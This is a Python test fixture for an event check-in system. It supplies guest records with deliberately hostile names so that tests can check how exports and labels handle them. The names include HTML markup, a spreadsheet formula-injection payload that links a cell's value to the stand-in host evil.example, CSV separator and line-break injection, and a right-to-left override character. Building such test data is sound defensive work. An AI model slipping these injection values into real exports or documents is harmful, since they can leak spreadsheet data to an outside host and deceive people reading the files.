"""Guests whose names are hostile text, mixed into the lists the kill trials import and sync: whatever a
kill interrupts, such a name travels and lands like any other (the plain-text and export tests check how
it is shown)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import chain

from checkin.domain import Registrant

HOSTILE_GUESTS = (
    Registrant(first_name='<font color="#00aa00" size="7">ZAREJESTROWANO</font>', last_name="Markup",
               organisation="Kongres <CUS> & Forum", registration_id="H1"),
    Registrant(first_name='=HYPERLINK("http://evil.example/"&A1,"Kliknij")', last_name="Formuła",
               organisation="@SUM(A1:A9)", registration_id="H2"),
    Registrant(first_name="Ewa; \"Cudzysłów\"", last_name="Średnik,\r\nNowa linia", organisation="-1+1",
               registration_id="H3"),
    Registrant(first_name="مريم", last_name="\u202eKowalska\u202c", organisation="Фонд 🙂 Форпост",
               registration_id="H4"),
)  # fmt: skip
"""Rich text the labels would draw, spreadsheet formulas, the CSV's own separators and line ends,
right-to-left text with a direction override, Cyrillic and an emoji."""


def with_hostile_guests(registrants: Iterable[Registrant]) -> Iterator[Registrant]:
    """`registrants`, the hostile guests among them (a list is not sorted by how odd its names are)."""
    return chain(HOSTILE_GUESTS[:2], registrants, HOSTILE_GUESTS[2:])
